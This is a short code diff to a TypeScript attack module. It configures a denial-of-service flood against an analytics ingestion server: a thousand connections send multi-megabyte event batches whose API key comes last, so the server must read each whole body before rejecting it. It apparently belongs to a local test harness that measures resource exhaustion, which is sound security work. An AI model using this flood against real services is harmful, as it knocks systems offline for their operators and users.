@@ -4,11 +4,11 @@ import type { Attack } from './attack.ts';
 
 const CONNECTIONS = 1_000;
 const BODY_BYTES = 4_900_000;
-const RETRY_MS = 100;
+/** Real SDKs wait for minutes. At full speed, copying the bodies takes all of the memory bus that attacker and server share. */
+const RETRY_MS = 5_000;
 
 /** A batch whose key comes last, so that all of it must be read before the key is known to be wrong. */
-const EVENT =
-  '{"event":"Order Completed","distinct_id":"user_1","properties":{"note":"'.padEnd(4_890, 'x') + '"}},';
+const EVENT = `{"event":"Order Completed","distinct_id":"user_1","properties":{"note":"${'x'.repeat(4_800)}"}},`;
 const START = Buffer.from(`{"batch":[${EVENT.repeat(Math.floor(BODY_BYTES / EVENT.length))}{}],"api_key":"`);
 
 /** Sends a whole batch with a well-formed key that does not exist. Resolves with the status, or `closed`. */
